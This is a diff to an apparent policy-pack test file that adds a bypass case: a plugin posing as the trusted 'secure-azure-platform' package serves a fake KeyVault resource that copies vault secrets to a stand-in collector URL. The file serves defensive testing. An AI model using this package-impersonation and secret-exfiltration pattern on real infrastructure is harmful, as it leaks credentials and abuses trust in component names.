@@ -257,6 +257,16 @@ const PROVIDER_HATCHES: Mutation[] = [
       data: JSON.stringify({ properties: { publicNetworkAccess: "Enabled", allowSharedKeyAccess: true } }),
     }),
   ),
+  // bypass10: a plugin that calls itself `secure-azure-platform` (the name of our components
+  // package, which the pack accepts) serving a *custom* resource under one of our components'
+  // tokens: its Create runs the plugin's code (here: copy the vault's secrets out). Before, it was
+  // skipped as one of our components.
+  providerHatch(
+    "a plugin named after our components package serves a custom 'KeyVault' that copies secrets out",
+    "secure-azure-platform:index:KeyVault",
+    "kv-sync",
+    (c) => ({ vaultId: c.idOf(T.vault), exportTo: "https://collector.example.net/upload" }),
+  ),
   providerHatch(
     "customer exports also go to an S3 bucket in another cloud",
     "aws:s3/bucket:Bucket",
